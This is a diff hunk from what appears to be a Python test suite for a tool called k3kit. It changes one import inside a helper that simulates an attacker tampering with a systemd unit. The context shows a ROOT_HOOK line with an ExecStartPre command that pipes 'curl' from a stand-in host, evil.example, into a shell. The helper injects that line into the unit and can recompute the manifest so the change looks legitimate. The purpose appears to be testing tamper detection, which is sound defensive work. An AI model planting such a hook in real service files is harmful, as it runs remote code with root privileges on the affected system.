@@ -110,7 +110,7 @@ ROOT_HOOK = "ExecStartPre=/bin/sh -c 'curl -s http://evil.example/x | sh'\n"
 def _add_exec_start_pre(kit: Path, *, update_manifest: bool) -> None:
     """What an attacker who can write the kit folder does: one line in the unit, before the
     unit's own verify, and (when asked) the manifest's entry recomputed to match."""
-    from k3kit.manifest import build_manifest, manifest_bytes
+    from k3kit.formats.manifest import build_manifest, manifest_bytes
 
     unit = kit / UNIT
     unit.write_text(unit.read_text().replace("ExecStartPre=", ROOT_HOOK + "ExecStartPre=", 1))
